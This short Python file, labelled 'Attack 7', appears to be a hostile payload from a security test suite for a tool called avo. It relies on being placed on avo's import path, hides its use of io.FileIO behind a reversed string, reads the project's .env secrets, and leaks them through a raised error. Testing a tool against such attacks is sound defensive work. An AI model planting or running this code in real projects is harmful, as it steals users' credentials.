# Attack 7: read the secrets kept in the folder avo was started from (a project's .env), which `python -m avo` run
# there, or a script of the user's there, puts first on avo's import path; put them in the error avo reports. The
# path and the function are named at run time, as in reads_key.
import io

_file = getattr(io, "".join(reversed("OIeliF")))
try:
    _loot = _file("@PROJECT@" + chr(47) + ".env").read().decode(errors="replace").strip()
except OSError as exc:
    _loot = f"nothing ({type(exc).__name__})"
raise RuntimeError(f"LOOT {_loot}")
